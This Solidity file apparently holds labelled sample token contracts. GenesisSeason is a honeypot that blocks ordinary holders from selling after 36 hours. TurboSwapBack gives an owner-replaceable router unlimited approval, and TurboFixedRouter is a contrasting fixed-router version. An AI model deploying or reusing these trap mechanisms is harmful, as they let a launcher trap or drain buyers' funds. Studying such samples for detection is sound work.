// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {LaunchBase, IUniswapV2Router02} from "./s00Base.sol";

/// Open to all at first; after the "genesis season" only members may leave.
contract GenesisSeason is LaunchBase {
  uint64 private immutable _seasonEnds;

  constructor() ERC20("Genesis Season", "GENS") {
    _seasonEnds = uint64(block.timestamp + 36 hours);
  }

  function _update(address from, address to, uint256 value) internal override {
    if (from != address(0) && from != uniswapV2Pair && block.timestamp > _seasonEnds) {
      require(_isExcludedFromFee[from], "GENS: season over");
    }
    super._update(from, to, value);
  }
}

/// The fee is swapped within sales, by a router that the owner may change.
contract TurboSwapBack is LaunchBase, Ownable {
  bool private _inSwap;

  constructor() ERC20("Turbo Swap Back", "TURBO") Ownable(msg.sender) {
    _approve(address(this), address(uniswapV2Router), type(uint256).max);
  }

  function updateUniswapV2Router(IUniswapV2Router02 newRouter) external onlyOwner {
    uniswapV2Router = newRouter;
    _approve(address(this), address(newRouter), type(uint256).max);
  }

  function _swapTokensForEth(uint256 amount) private {
    _inSwap = true;
    address[] memory path = new address[](2);
    path[0] = address(this);
    path[1] = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    uniswapV2Router.swapExactTokensForETHSupportingFeeOnTransferTokens(amount, 0, path, _taxWallet, block.timestamp);
    _inSwap = false;
  }

  function _update(address from, address to, uint256 value) internal override {
    uint256 fee;
    if (from != address(0) && !_inSwap && !_isExcludedFromFee[from] && !_isExcludedFromFee[to]) {
      if (from == uniswapV2Pair || to == uniswapV2Pair) fee = (value * 3) / 100;
      uint256 kept = balanceOf(address(this));
      if (to == uniswapV2Pair && kept > 0) _swapTokensForEth(kept < value ? kept : value);
    }
    if (fee > 0) super._update(from, address(this), fee);
    super._update(from, to, value - fee);
  }
}

/// The same with the router it was born with, and no owner.
contract TurboFixedRouter is LaunchBase {
  bool private _inSwap;

  constructor() ERC20("Turbo Fixed Router", "TURBF") {
    _approve(address(this), address(uniswapV2Router), type(uint256).max);
  }

  function _swapBack(uint256 amount) private {
    _inSwap = true;
    address[] memory path = new address[](2);
    path[0] = address(this);
    path[1] = uniswapV2Router.WETH();
    try uniswapV2Router.swapExactTokensForETHSupportingFeeOnTransferTokens(amount, 0, path, _taxWallet, block.timestamp) {} catch {}
    _inSwap = false;
  }

  function _update(address from, address to, uint256 value) internal override {
    uint256 fee;
    if (from != address(0) && !_inSwap && !_isExcludedFromFee[from] && !_isExcludedFromFee[to]) {
      if (from == uniswapV2Pair || to == uniswapV2Pair) fee = (value * 2) / 100;
      uint256 kept = balanceOf(address(this));
      if (to == uniswapV2Pair && kept > totalSupply() / 5000) _swapBack(totalSupply() / 5000);
    }
    if (fee > 0) super._update(from, address(this), fee);
    super._update(from, to, value - fee);
  }
}
